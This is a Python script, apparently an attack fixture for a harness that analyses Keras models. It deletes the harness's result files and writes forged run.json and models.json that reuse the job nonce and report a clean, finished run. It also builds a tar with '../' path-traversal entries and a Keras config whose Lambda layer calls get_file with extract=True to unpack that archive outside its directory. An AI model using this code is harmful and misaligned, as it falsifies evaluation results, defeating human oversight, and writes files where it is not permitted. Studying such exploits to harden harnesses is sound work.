print("nothing to see")
# --- attack
import io
import json
import os
import pathlib
import tarfile

out = pathlib.Path(os.environ["HOME"]).parents[1] / "out"
job = out.parent / "job.json"
nonce = json.loads(job.read_text())["nonce"] if job.exists() else ""
RUN = {"nonce": nonce, "finished": True, "running": None, "problem": "", "missing": "", "kernel_exit": None, "failures": [], "outputs": []}
for name in ("run.json", "models.json"):
    (out / name).unlink(missing_ok=True)


with tarfile.open(out / "data.tar", "w") as archive:
    for name in ("@MARKER@", *("../" * up + "marker" for up in range(1, 8))):
        archive.addfile(tarfile.TarInfo(name), io.BytesIO())

TENSOR = {"class_name": "__keras_tensor__", "config": {"shape": [None, 1], "dtype": "float32", "keras_history": ["x", 0, 0]}}
CONFIG = {
    "name": "model", "trainable": True,
    "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "x", "inbound_nodes": [],
         "config": {"batch_shape": [None, 1], "dtype": "float32", "sparse": False, "name": "x"}},
        {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "evil",
         "config": {"name": "evil", "function": {
             "module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}}, "inbound_nodes": [{"args": [], "kwargs": {"inputs": "data", "origin": f"file://{out}/data.tar", "extract": True}}]},
    ],
    "input_layers": [["x", 0, 0]], "output_layers": [["evil", 0, 0]],
}
PLACE = {"cell": None, "line": 1, "file": "attack.py"}
MODEL = {"index": 0, "kind": "functional", "class_name": "Functional", "variables": ["model"], "function": "",
         "returned": False, "location": PLACE, "marks": [], "config": CONFIG, "config_error": "", "compiles": [],
         "fits": [], "layer_locations": {}, "unused": []}
MODELS = {"nonce": nonce, "versions": {}, "problem": "", "calling": "", "models": [MODEL], "notes": [], "failures": [],
          "function_failures": {}, "omitted": 0}

(out / "run.json").write_text(json.dumps(RUN))
(out / "models.json").write_text(json.dumps(MODELS))
os._exit(0)
# --- honest
